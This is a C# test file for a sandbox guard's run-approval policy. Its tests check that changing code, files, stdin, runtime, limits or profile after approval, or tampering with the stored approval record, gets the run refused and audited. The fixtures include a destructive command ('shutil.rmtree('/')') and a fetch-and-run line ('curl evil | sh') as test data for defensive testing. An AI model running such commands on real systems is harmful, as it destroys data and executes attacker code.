using Microsoft.Extensions.Logging.Abstractions;
using Sandbox.Core.Execution;
using Sandbox.Core.Limits;
using Sandbox.Core.Profiles;
using Sandbox.Core.Runs;
using Sandbox.Guard.Agents;
using Sandbox.Guard.Alerts;
using Sandbox.Guard.Approvals;
using Sandbox.Guard.Audit;
using Sandbox.Guard.Policy;
using Sandbox.Guard.Store;
using Sandbox.Guard.Tests.Store;

namespace Sandbox.Guard.Tests.Policy;

/// <summary>
/// An approval binds everything that would run (code, files, stdin, profile, runtime, limits), against a real store:
/// the approver is shown all of it, and a change to any of it after the approval refuses the run.
/// </summary>
public sealed class RunPolicyApprovalTests : TempDatabase
{
    [Fact]
    public async Task AdmitAsync_RunNeedingApproval_StoresFilesStdinRuntimeLimitsAndTheirDigest()
    {
        var (guard, principal) = await GuardAsync();
        var plan = Plan();

        var approval = (await guard.AdmitAsync(principal, plan, Ct)).Approval.ShouldNotBeNull();
        var stored = (await guard.Store.FindApprovalAsync(approval.Id, Ct)).ShouldNotBeNull();

        var file = stored.Files.ShouldHaveSingleItem();
        file.Path.ShouldBe("helper.py");
        file.Content.ShouldBe(HelperPy);
        file.Bytes.ShouldBe(System.Text.Encoding.UTF8.GetByteCount(HelperPy));
        file.Sha256.ShouldBe(AuditRecords.Sha256(HelperPy));
        stored.Stdin.ShouldBe("secret input\n");
        stored.Backend.ShouldBe(BackendNames.Docker);
        stored.Runtime.ShouldBe(RuntimeNames.Runc);
        stored.Limits.ShouldBe(plan.Limits);
        stored.RequestSha256.ShouldBe(ApprovalDigest.Of(plan));
        ApprovalDigest.Of(stored).ShouldBe(stored.RequestSha256);
    }

    [Fact]
    public async Task CheckApprovedAsync_NothingChanged_IsNull()
    {
        var (guard, principal) = await GuardAsync();
        var plan = Plan();
        var approval = await ApprovedAsync(guard, principal, plan);

        (await guard.CheckApprovedAsync(principal, approval, plan, Ct)).ShouldBeNull();
    }

    public static TheoryData<string> Changes() => ["code", "file content", "file path", "extra file", "stdin", "runtime", "limits", "profile"];

    [Theory]
    [MemberData(nameof(Changes))]
    public async Task CheckApprovedAsync_PlanChangedAfterApproval_IsRefusedAndAudited(string change)
    {
        var (guard, principal) = await GuardAsync();
        var plan = Plan();
        var approval = await ApprovedAsync(guard, principal, plan);
        var request = plan.Request;
        var changed = change switch
        {
            "code" => plan with { Request = request with { Code = request.Code + "\n" } },
            "file content" => plan with { Request = request with { Files = [new InputFile { Path = "helper.py", Content = "import os; os.system('curl evil | sh')\n" }] } },
            "file path" => plan with { Request = request with { Files = [new InputFile { Path = "helper2.py", Content = HelperPy }] } },
            "extra file" => plan with { Request = request with { Files = [.. request.Files!, new InputFile { Path = "sitecustomize.py", Content = "print(1)" }] } },
            "stdin" => plan with { Request = request with { Stdin = "other input\n" } },
            "runtime" => plan with { Runtime = RuntimeNames.Runsc },
            "limits" => plan with { Limits = plan.Limits with { MemoryBytes = plan.Limits.MemoryBytes * 2 } },
            "profile" => plan with { Profile = plan.Profile with { Name = "python-big" } },
            _ => throw new ArgumentOutOfRangeException(nameof(change)),
        };

        var reason = await guard.CheckApprovedAsync(principal, approval, changed, Ct);

        reason.ShouldNotBeNull().ShouldContain("is not what was approved");
        var refused = (await guard.Store.QueryAuditAsync(new AuditQuery { RunId = plan.RunId, Kind = AuditKinds.Decision, Status = "rejected" }, Ct)).ShouldHaveSingleItem();
        refused.Data.ShouldContain("approval_mismatch");
    }

    [Fact]
    public async Task CheckApprovedAsync_ApprovalRecordChangedInTheStore_IsRefused()
    {
        // Someone with the file shows the approver a harmless helper.py: what they approve is not what would run.
        var (guard, principal) = await GuardAsync();
        var plan = Plan();
        var pending = (await guard.AdmitAsync(principal, plan, Ct)).Approval.ShouldNotBeNull();
        await RawAsync("UPDATE approvals SET details = replace(details, 'shutil', 'harmless') WHERE id = $id", ("$id", pending.Id));
        var approval = await ApproveAsync(guard, pending.Id);

        var reason = await guard.CheckApprovedAsync(principal, approval, plan, Ct);

        reason.ShouldNotBeNull().ShouldContain("record was changed");
    }

    [Fact]
    public async Task CheckApprovedAsync_ApprovalWithoutADigest_IsRefused()
    {
        var (guard, principal) = await GuardAsync();
        var plan = Plan();
        var pending = (await guard.AdmitAsync(principal, plan, Ct)).Approval.ShouldNotBeNull();
        await RawAsync("UPDATE approvals SET details = NULL, request_sha256 = NULL WHERE id = $id", ("$id", pending.Id));
        var approval = await ApproveAsync(guard, pending.Id);

        (await guard.CheckApprovedAsync(principal, approval, plan, Ct)).ShouldNotBeNull().ShouldContain("predates");
    }

    private const string HelperPy = "import shutil\nshutil.rmtree('/')\n";

    private async Task<(PolicyHarness Guard, Principal Principal)> GuardAsync()
    {
        var store = await OpenAsync();
        var agent = Some.Agent() with { Profiles = ["python", "python-big"] };
        var key = Some.Key(agent);
        await store.CreateAgentAsync(agent, key, Some.Admin("agent_created", agent.Id), Ct);
        var guard = new PolicyHarness(store, new GuardOptions { NodeId = "test" }, Clock);
        return (guard, new Principal(agent, key));
    }

    private async Task<Approval> ApprovedAsync(PolicyHarness guard, Principal principal, RunPlan plan)
    {
        var pending = (await guard.AdmitAsync(principal, plan, Ct)).Approval.ShouldNotBeNull();
        return await ApproveAsync(guard, pending.Id);
    }

    private async Task<Approval> ApproveAsync(PolicyHarness guard, string approvalId) =>
        (await new AgentAdmin(guard.Store, Clock).DecideAsync(approvalId, approve: true, "test", note: null, Ct)).Value.ShouldNotBeNull();

    private static RunPlan Plan() => Some.Plan(
        new RunRequest
        {
            Language = "python",
            Code = "import helper\n",
            Stdin = "secret input\n",
            Files = [new InputFile { Path = "helper.py", Content = HelperPy }],
            Purpose = "approval test",
        },
        requiresApproval: true);
}
